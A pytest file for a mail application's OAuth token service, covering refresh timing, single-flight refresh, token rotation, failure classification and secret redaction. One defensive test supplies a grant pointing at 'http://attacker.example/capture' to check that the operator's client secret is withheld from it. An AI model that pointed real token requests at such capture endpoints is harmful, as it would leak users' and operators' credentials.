"""``OAuthTokens``: refresh before expiry, reuse, single-flight, rotation stored before
the token is returned, and the classification of failures. Fakes for the store and the
token client; the in-process lease as the lock."""

from __future__ import annotations

import threading
import time
from collections.abc import Collection

import pytest

from application.mail.oauth import (
    OAuthClient,
    OAuthGrant,
    OAuthTokens,
    TokenAnswer,
    TokenRefusedGrant,
    TokenServerError,
    TokenTimeout,
)
from application.mail.ports import (
    MailboxAuthError,
    MailboxReauthRequired,
    MailboxTimeout,
    MailboxTransientError,
)
from infrastructure.in_process.lease import InProcessLease


class Secrets:
    def __init__(self) -> None:
        self.rows: dict[str, str] = {}
        self.puts: list[str] = []

    def put(self, tenant_id: str, account_id: str, secret: str) -> None:
        self.rows[account_id] = secret
        self.puts.append(secret)

    def get(self, account_id: str) -> str | None:
        return self.rows.get(account_id)

    def get_many(self, account_ids: Collection[str]) -> dict[str, str]:
        return {a: self.rows[a] for a in account_ids if a in self.rows}

    def delete(self, account_id: str) -> None:
        self.rows.pop(account_id, None)


class Client:
    def __init__(self, secrets: Secrets) -> None:
        self.calls: list[dict[str, object]] = []
        self.secrets = secrets
        self.fail: Exception | None = None
        self.rotate = True
        self.delay = 0.0
        self.stored_when_answered: list[str | None] = []

    def refresh(
        self,
        token_url: str,
        *,
        refresh_token: str,
        client_id: str | None,
        client_secret: str | None,
        scopes: tuple[str, ...],
    ) -> TokenAnswer:
        n = len(self.calls) + 1
        self.calls.append(
            {"url": token_url, "rt": refresh_token, "id": client_id, "secret": client_secret}
        )
        time.sleep(self.delay)
        if self.fail is not None:
            raise self.fail
        return TokenAnswer(f"at-{n}", 60.0, f"rt-{n}" if self.rotate else None)


def tokens(
    *, provider: str = "custom", now: list[float] | None = None
) -> tuple[OAuthTokens, Secrets, Client]:
    secrets, clock = Secrets(), now or [1000.0]
    client = Client(secrets)
    grant = OAuthGrant(
        "t1",
        provider,
        "rt-0",
        token_url="https://token.example/t" if provider == "custom" else None,
    )
    secrets.rows["a1"] = grant.dumps()
    service = OAuthTokens(
        secrets,
        client,
        InProcessLease(30),
        {"google": OAuthClient("gid", "gsecret")},
        margin=10,
        lock_wait=5,
        clock=lambda: clock[0],
    )
    return service, secrets, client


def stored(secrets: Secrets) -> OAuthGrant:
    grant = OAuthGrant.loads(secrets.rows["a1"])
    assert grant is not None
    return grant


def test_refreshes_once_then_reuses_until_the_margin() -> None:
    now = [1000.0]
    service, secrets, client = tokens(now=now)
    assert service.get_access_token("a1") == "at-1"
    assert stored(secrets).refresh_token == "rt-1"  # rotated and stored
    now[0] += 49  # 60 s token, 10 s margin
    assert service.get_access_token("a1") == "at-1"
    now[0] += 2
    assert service.get_access_token("a1") == "at-2"
    assert [c["rt"] for c in client.calls] == ["rt-0", "rt-1"]


def test_presets_and_client_credentials_from_settings() -> None:
    service, _, client = tokens(provider="google")
    service.get_access_token("a1")
    assert client.calls[0] == {
        "url": "https://oauth2.googleapis.com/token",
        "rt": "rt-0",
        "id": "gid",
        "secret": "gsecret",
    }


def test_threads_share_one_refresh() -> None:
    service, _, client = tokens()
    client.delay = 0.2
    got: list[str] = []
    threads = [
        threading.Thread(target=lambda: got.append(service.get_access_token("a1")))
        for _ in range(20)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert got == ["at-1"] * 20 and len(client.calls) == 1


def test_an_unrotated_grant_keeps_its_refresh_token() -> None:
    service, secrets, client = tokens()
    client.rotate = False
    service.get_access_token("a1")
    assert stored(secrets).refresh_token == "rt-0"


def test_invalid_grant_needs_reauth_and_stores_nothing() -> None:
    service, secrets, client = tokens()
    client.fail = TokenRefusedGrant("invalid_grant")
    with pytest.raises(MailboxReauthRequired):
        service.get_access_token("a1")
    assert secrets.puts == []


def test_server_errors_are_transient_never_auth() -> None:
    service, secrets, client = tokens()
    client.fail = TokenServerError("503")
    with pytest.raises(MailboxTransientError) as raised:
        service.get_access_token("a1")
    assert not isinstance(raised.value, MailboxAuthError)
    assert secrets.puts == []


def test_a_lock_held_elsewhere_past_the_wait_is_transient() -> None:
    service, _, client = tokens()
    lock = InProcessLease(30)
    service._lock = lock
    service._lock_wait = 0.2
    assert lock.acquire("a1") is not None
    with pytest.raises(MailboxTransientError):
        service.get_access_token("a1")
    assert client.calls == []


def test_a_plain_token_is_returned_as_it_is_and_a_missing_one_is_an_auth_error() -> None:
    service, secrets, client = tokens()
    secrets.rows["a1"] = "at-given"
    assert service.get_access_token("a1") == "at-given"
    del secrets.rows["a1"]
    with pytest.raises(MailboxAuthError):
        service.get_access_token("a1")
    assert client.calls == []


def test_a_grant_never_shows_its_tokens() -> None:
    grant = OAuthGrant("t1", "custom", "rt-secret", access_token="at-secret")
    assert "secret" not in repr(grant)
    assert OAuthGrant.loads(grant.dumps()) == grant
    assert grant.with_refresh_token("rt-new").access_token is None


def test_a_refused_token_is_replaced_unless_someone_already_did() -> None:
    service, _, client = tokens()
    first = service.get_access_token("a1")
    assert service.get_access_token("a1", refused=first) == "at-2"
    assert service.get_access_token("a1", refused=first) == "at-2"  # reused, no refresh
    assert len(client.calls) == 2


def _custom(grant: OAuthGrant, client: OAuthClient) -> Client:
    secrets = Secrets()
    secrets.rows["a1"] = grant.dumps()
    token_client = Client(secrets)
    OAuthTokens(secrets, token_client, InProcessLease(30), {"custom": client}).get_access_token(
        "a1"
    )
    return token_client


def test_the_operators_custom_secret_goes_only_to_its_configured_token_url() -> None:
    operator = OAuthClient("op-id", "op-secret", "https://sso.operator.example/token")
    named = OAuthGrant("t1", "custom", "rt-0", token_url="http://attacker.example/capture")
    [call] = _custom(named, operator).calls
    assert call["url"] == "http://attacker.example/capture"
    assert call["secret"] is None
    configured = OAuthGrant("t1", "custom", "rt-0", token_url="https://sso.operator.example/token")
    assert _custom(configured, operator).calls[0]["secret"] == "op-secret"
    # Without a configured URL the custom secret goes nowhere.
    unconfigured = OAuthClient("op-id", "op-secret")
    assert _custom(named, unconfigured).calls[0]["secret"] is None


def test_a_tenants_own_client_is_sent_and_sealed_with_its_grant() -> None:
    own = OAuthGrant(
        "t1",
        "custom",
        "rt-0",
        client_id="mine",
        token_url="https://t.example/token",
        client_secret="my-secret",
    )
    assert OAuthGrant.loads(own.dumps()) == own
    assert "my-secret" not in repr(own)
    operator = OAuthClient("op-id", "op-secret", "https://t.example/token")
    [call] = _custom(own, operator).calls
    assert (call["id"], call["secret"]) == ("mine", "my-secret")


def test_a_token_request_past_its_deadline_is_a_timeout() -> None:
    service, _, client = tokens()
    client.fail = TokenTimeout("deadline")
    with pytest.raises(MailboxTimeout):
        service.get_access_token("a1")
